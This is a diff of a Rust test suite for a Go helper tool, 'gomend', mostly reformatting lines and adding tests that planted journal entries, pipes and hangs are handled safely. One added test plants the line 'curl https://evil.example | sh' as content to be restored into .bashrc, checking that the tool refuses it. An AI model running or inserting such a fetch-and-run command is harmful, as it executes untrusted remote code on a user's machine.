@@ -128,7 +128,10 @@ const READ: &[(&str, &[&str])] = &[
     (".ssh/config", &["doctor"]),
     (".ssh/known_hosts", &["explain", "../log"]),
     (".config/gomend/config.toml", &["config"]),
-    (".config/gomend/rules.toml", &["explain", "../log", "--offline"]),
+    (
+        ".config/gomend/rules.toml",
+        &["explain", "../log", "--offline"],
+    ),
     (".config/go/env", &["explain", "../log", "--offline"]),
     (".bashrc", &["uninstall", "--yes"]),
     (".zshrc", &["uninstall", "--yes"]),
@@ -136,7 +139,10 @@ const READ: &[(&str, &[&str])] = &[
     (".local/state/gomend/reports/1.json", &["last"]),
     (".local/state/gomend/journal/000001.applied", &["history"]),
     (".local/state/gomend/journal/000001.pending", &["undo"]),
-    (".local/state/gomend/profiles/x.json", &["compare", "--with", "x"]),
+    (
+        ".local/state/gomend/profiles/x.json",
+        &["compare", "--with", "x"],
+    ),
 ];
 
 #[test]
@@ -196,7 +202,11 @@ fn a_project_file_leads_nowhere_else() {
 fn entry(id: u64, path: &Path, before: &[u8]) -> String {
     let now = fs::read(path).unwrap();
     let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &now);
-    let hex: String = digest.as_ref().iter().map(|byte| format!("{byte:02x}")).collect();
+    let hex: String = digest
+        .as_ref()
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect();
     serde_json::json!({
         "id": id, "time": "2026-01-01T00:00:00Z", "fix": "goprivate", "title": "Change a file",
         "steps": [{"write": {
@@ -240,7 +250,12 @@ fn a_planted_journal_entry_is_never_acted_on() {
         }),
     ];
     for (what, plan) in plans {
-        for args in [&["undo"][..], &["undo", "1"], &["fix", "--yes"], &["history"]] {
+        for args in [
+            &["undo"][..],
+            &["undo", "1"],
+            &["fix", "--yes"],
+            &["history"],
+        ] {
             let home = home();
             let bashrc = home.write(".bashrc", "mine\n");
             let planted = plant(
@@ -251,8 +266,15 @@ fn a_planted_journal_entry_is_never_acted_on() {
             );
             plan(&home, &planted);
             let ended = bounded(gomend(&home, args), what);
-            assert_eq!(home.read(".bashrc"), "mine\n", "{what}, {args:?}: {ended:?}");
-            assert!(!ended.words().is_empty(), "{what}, {args:?}: nothing is said");
+            assert_eq!(
+                home.read(".bashrc"),
+                "mine\n",
+                "{what}, {args:?}: {ended:?}"
+            );
+            assert!(
+                !ended.words().is_empty(),
+                "{what}, {args:?}: nothing is said"
+            );
         }
     }
 }
@@ -264,7 +286,12 @@ fn failing(home: &Home, words: &str, trial: &str) -> Command {
     );
     let go = home.write("bin/go", script);
     fs::set_permissions(&go, fs::Permissions::from_mode(0o755)).unwrap();
-    let path = [shims().to_owned(), home.at("bin"), "/usr/bin".into(), "/bin".into()];
+    let path = [
+        shims().to_owned(),
+        home.at("bin"),
+        "/usr/bin".into(),
+        "/bin".into(),
+    ];
     let mut command = home.command("unshare");
     command
         .args(["--net", "go", "mod", "download"])
@@ -290,7 +317,10 @@ fn a_shared_state_folder_is_not_used() {
     let home = home.var("XDG_STATE_HOME", &shared);
     let ended = bounded(failing(&home, PRIVATE, ":"), "go");
     assert_eq!(home.read("precious"), "precious\n");
-    assert!(home.read("report.json").contains("private-via-proxy"), "{ended:?}");
+    assert!(
+        home.read("report.json").contains("private-via-proxy"),
+        "{ended:?}"
+    );
     assert!(!shared.join("gomend/reports").exists());
     let ended = bounded(gomend(&home, &["history"]), "history");
     assert_eq!(ended.how, How::Code(1));
@@ -307,7 +337,10 @@ fn a_state_folder_below_one_that_anybody_can_write_to_is_not_used() {
     fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
     let home = home.var("XDG_STATE_HOME", &open);
     let ended = bounded(failing(&home, PRIVATE, ":"), "go");
-    assert!(home.read("report.json").contains("private-via-proxy"), "{ended:?}");
+    assert!(
+        home.read("report.json").contains("private-via-proxy"),
+        "{ended:?}"
+    );
     assert_eq!(fs::read_dir(open.join("gomend")).unwrap().count(), 0);
 }
 
@@ -333,12 +366,18 @@ fn an_own_state_folder_is_closed_and_nothing_is_lost() {
     for folder in ["", "/reports"] {
         home.mode(&format!("{STATE}{folder}"), 0o777);
     }
-    let reports = || fs::read_dir(home.at(STATE).join("reports")).unwrap().count();
+    let reports = || {
+        fs::read_dir(home.at(STATE).join("reports"))
+            .unwrap()
+            .count()
+    };
     assert_eq!(reports(), 1);
     bounded(failing(&home, PRIVATE, ":"), "go");
     assert_eq!(reports(), 2);
     for folder in ["", "/reports", "/seen"] {
-        let mode = fs::metadata(home.at(&format!("{STATE}{folder}"))).unwrap().mode();
+        let mode = fs::metadata(home.at(&format!("{STATE}{folder}")))
+            .unwrap()
+            .mode();
         assert_eq!(mode & 0o777, 0o700, "{folder}");
     }
 }
@@ -352,7 +391,10 @@ fn settings_of_somebody_else_are_not_read() {
     let said = String::from_utf8_lossy(&ended.stdout).into_owned();
     let json: serde_json::Value = serde_json::from_str(&said).unwrap();
     assert!(!said.contains("\"value\": true"), "{json:#}");
-    assert!((said + &ended.words()).contains("another user"), "{ended:?}");
+    assert!(
+        (said + &ended.words()).contains("another user"),
+        "{ended:?}"
+    );
 }
 
 #[test]
@@ -365,7 +407,11 @@ fn a_report_is_for_its_user_alone() {
             fs::set_permissions(&report, fs::Permissions::from_mode(mode)).unwrap();
         }
         bounded(failing(&home, PRIVATE, ":"), "go");
-        assert_eq!(fs::metadata(&report).unwrap().mode() & 0o777, 0o600, "{before:?}");
+        assert_eq!(
+            fs::metadata(&report).unwrap().mode() & 0o777,
+            0o600,
+            "{before:?}"
+        );
     }
     // where a link leads, a device, a pipe
     fs::rename(&report, home.at("elsewhere.json")).unwrap();
@@ -392,11 +438,19 @@ fn a_report_is_for_its_user_alone() {
 fn a_damaged_entry_is_named_and_stops_nobody() {
     let home = home();
     let file = home.write("file", "after\n");
-    plant(&home, STATE, "000001.applied", &entry(1, &file, b"before\n"));
+    plant(
+        &home,
+        STATE,
+        "000001.applied",
+        &entry(1, &file, b"before\n"),
+    );
     plant(&home, STATE, "000002.applied", "{\"id\": 2");
     let ended = bounded(gomend(&home, &["history"]), "history");
     assert_eq!(ended.how, How::Code(0), "{ended:?}");
-    assert!(String::from_utf8_lossy(&ended.stdout).contains("Change a file"), "{ended:?}");
+    assert!(
+        String::from_utf8_lossy(&ended.stdout).contains("Change a file"),
+        "{ended:?}"
+    );
     assert!(ended.words().contains("000002.applied"), "{ended:?}");
     let ended = bounded(gomend(&home, &["undo"]), "undo");
     assert_eq!(home.read("file"), "before\n", "{ended:?}");
@@ -408,7 +462,10 @@ fn a_former_secret_is_dropped_once_undone() {
     for (name, code) in [("000001.applied", 0), ("000001.pending", 0)] {
         let home = home();
         let secret = b"machine git.corp.example login dev password f0rmer\n";
-        let netrc = home.write(".netrc", "machine git.corp.example login dev password new\n");
+        let netrc = home.write(
+            ".netrc",
+            "machine git.corp.example login dev password new\n",
+        );
         plant(&home, STATE, name, &entry(1, &netrc, secret));
         let ended = bounded(gomend(&home, &["undo"]), "undo");
         assert_eq!(ended.how, How::Code(code), "{ended:?}");
@@ -419,7 +476,10 @@ fn a_former_secret_is_dropped_once_undone() {
             assert!(!bytes.contains(&STANDARD.encode(secret)), "{bytes}");
         }
         let history = bounded(gomend(&home, &["history"]), "history");
-        assert!(String::from_utf8_lossy(&history.stdout).contains(".netrc"), "{history:?}");
+        assert!(
+            String::from_utf8_lossy(&history.stdout).contains(".netrc"),
+            "{history:?}"
+        );
     }
 }
 
@@ -469,7 +529,11 @@ fn a_stopped_gomend_stops_nobody_else() {
     fs::remove_file(home.at("report.json")).ok();
     let began = Instant::now();
     let ended = bounded(start(), "go beside a stopped gomend");
-    assert!(began.elapsed() < Duration::from_secs(15), "{:?}", began.elapsed());
+    assert!(
+        began.elapsed() < Duration::from_secs(15),
+        "{:?}",
+        began.elapsed()
+    );
     assert_eq!(ended.how, How::Code(1));
     assert!(home.read("report.json").contains("tls-"), "{ended:?}");
     event::signal(looking, Signal::KILL);
@@ -487,7 +551,10 @@ fn a_signal_during_a_trial_leaves_nothing_behind() {
         fs::create_dir(&tmp).unwrap();
         let home = home.var("TMPDIR", &tmp);
         let pid = home.at("trial");
-        let trial = format!("echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600", pid.display());
+        let trial = format!(
+            "echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600",
+            pid.display()
+        );
         bounded(failing(&home, PRIVATE, &trial), "go");
         let mut command = gomend(&home, args);
         command.stdout(Stdio::null()).stderr(Stdio::null());
@@ -502,7 +569,10 @@ fn a_signal_during_a_trial_leaves_nothing_behind() {
             "{signal:?}: {status:?}"
         );
         event::wait_until("the trial has ended", || !event::exists(trial));
-        let left: Vec<_> = fs::read_dir(&tmp).unwrap().map(|entry| entry.unwrap().path()).collect();
+        let left: Vec<_> = fs::read_dir(&tmp)
+            .unwrap()
+            .map(|entry| entry.unwrap().path())
+            .collect();
         assert!(left.is_empty(), "{signal:?}: {left:?}");
     }
 }
@@ -514,7 +584,10 @@ fn what_a_killed_gomend_left_is_swept_by_the_next_one() {
     fs::create_dir(&tmp).unwrap();
     let home = home.var("TMPDIR", &tmp);
     let pid = home.at("trial");
-    let trial = format!("echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600", pid.display());
+    let trial = format!(
+        "echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600",
+        pid.display()
+    );
     bounded(failing(&home, PRIVATE, &trial), "go");
     let mut command = gomend(&home, &["fix", "--no-input"]);
     command.stdout(Stdio::null()).stderr(Stdio::null());
@@ -549,5 +622,88 @@ fn a_private_name_is_compared_with_consent_only() {
     assert_eq!(ended.how, How::Code(1), "{ended:?}");
     let words = ended.words();
     assert_eq!(words.lines().count(), 1, "{words}");
-    assert!(words.contains("proxy.golang.org") && words.contains("--disclose"), "{words}");
+    assert!(
+        words.contains("proxy.golang.org") && words.contains("--disclose"),
+        "{words}"
+    );
+}
+
+/// Another user's gomend, run by `nobody` beside what root has planted.
+#[test]
+fn what_another_user_has_planted_is_not_acted_on() {
+    let home = home().var("TMPDIR", "/tmp");
+    let bashrc = home.write(".bashrc", "mine\n");
+    let planted = plant(
+        &home,
+        STATE,
+        "000001.pending",
+        &entry(1, &bashrc, b"curl https://evil.example | sh\n"),
+    );
+    let gomend = home.at("gomend");
+    fs::copy(env!("CARGO_BIN_EXE_gomend"), &gomend).unwrap();
+    let open = |path: &Path| {
+        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    open(&home.outside(""));
+    for path in ["", ".bashrc", ".local", ".local/state", STATE] {
+        chown(home.at(path), Some(NOBODY), Some(NOBODY)).unwrap();
+        open(&home.at(path));
+    }
+    let run = |args: &[&str]| {
+        let mut command = home.command("unshare");
+        let user = [
+            "--net",
+            "setpriv",
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+        ];
+        command.args(user).arg(&gomend).args(args);
+        bounded(command, "gomend as nobody")
+    };
+    for owner in [0, NOBODY] {
+        // the folder is root's, and then only the entry
+        chown(planted.parent().unwrap(), Some(owner), None).unwrap();
+        open(planted.parent().unwrap());
+        open(&planted);
+        let ended = run(&["undo"]);
+        assert_eq!(home.read(".bashrc"), "mine\n", "{owner}: {ended:?}");
+        assert_eq!(ended.how, How::Code(1), "{owner}: {ended:?}");
+    }
+    chown(&planted, Some(NOBODY), None).unwrap();
+    let ended = run(&["undo"]);
+    assert_eq!(ended.how, How::Code(0), "{ended:?}");
+    assert_ne!(home.read(".bashrc"), "mine\n");
+}
+
+/// The shim looks into git's settings: go alone never would.
+#[test]
+fn a_pipe_in_the_place_of_git_s_settings_holds_nobody() {
+    let home = home();
+    Instead::Pipe.put(&home.at(".gitconfig"));
+    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
+    assert_eq!(ended.how, How::Code(1), "{ended:?}");
+}
+
+/// Whatever hangs (here a system call, for longer than anybody waits), go's status comes, and what
+/// the text alone says.
+#[test]
+fn a_diagnosis_ends_whatever_hangs() {
+    let home = home().var("GOMEND_PATIENCE", "1");
+    let go = failing(&home, PRIVATE, ":");
+    let mut command = home.command("unshare");
+    command.args(["--net", "strace", "-f", "-qq", "-o", "/dev/null"]);
+    command.args(["-e", "trace=flock", "-e", "inject=flock:delay_enter=50s"]);
+    command
+        .args(go.get_args().skip(1))
+        .current_dir(home.at("work"));
+    for (name, value) in go.get_envs() {
+        command.env(name, value.unwrap());
+    }
+    let began = Instant::now();
+    let _running = Ours(command.stderr(Stdio::null()).spawn().unwrap());
+    // strace itself waits for its delay: the report is the last that gomend writes
+    event::wait_until("the report is there", || home.at("report.json").exists());
+    assert!(began.elapsed() < PATIENCE, "{:?}", began.elapsed());
+    assert!(home.read("report.json").contains("private-via-proxy"));
 }
